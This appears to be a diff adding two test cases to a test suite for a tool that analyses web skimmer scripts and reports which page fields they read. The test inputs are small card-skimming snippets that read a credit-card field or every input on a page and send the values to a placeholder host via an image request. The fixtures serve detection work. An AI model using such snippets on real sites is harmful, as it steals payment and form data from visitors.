@@ -51,6 +51,24 @@ describe('applyTrace', function () {
     assert.deepEqual(found!.location, { line: 3, column: 1 });
   });
 
+  it('names the fields that the script names, decoded or not, and no others of the page', async () => {
+    const asked = `var s = ['#cc_', 'number'].join(''); new Image().src = 'https://x.example/?' + document.querySelector(s).value;`;
+    const [script] = (await run(asked)).scripts;
+    assert.deepEqual(script!.behaviour.fields, ['#cc_number']);
+  });
+
+  it('says every input of a script that goes through all of them', async () => {
+    const all = `var t = ''; var a = document.getElementsByTagName('input'); for (var i = 0; i < a.length; i++) t += a[i].value; new Image().src = 'https://x.example/?' + btoa(t);`;
+    const [script] = (await run(all)).scripts;
+    assert.ok(script!.behaviour.fields.includes('*'));
+    assert.ok(
+      !script!.behaviour.fields.some((name) => name.includes('cc_')),
+      script!.behaviour.fields.join(),
+    );
+    const fields = script!.evidence.flatMap(({ field }) => field ?? []);
+    assert.ok(!fields.some((name) => name.includes('cc_')), fields.join());
+  });
+
   it('gives places in the page for scripts of a page', async () => {
     const page = `<!doctype html>\n<p>\n<script>\n${skimmer}</script>`;
     const { scripts } = await run(page, 'a.html');
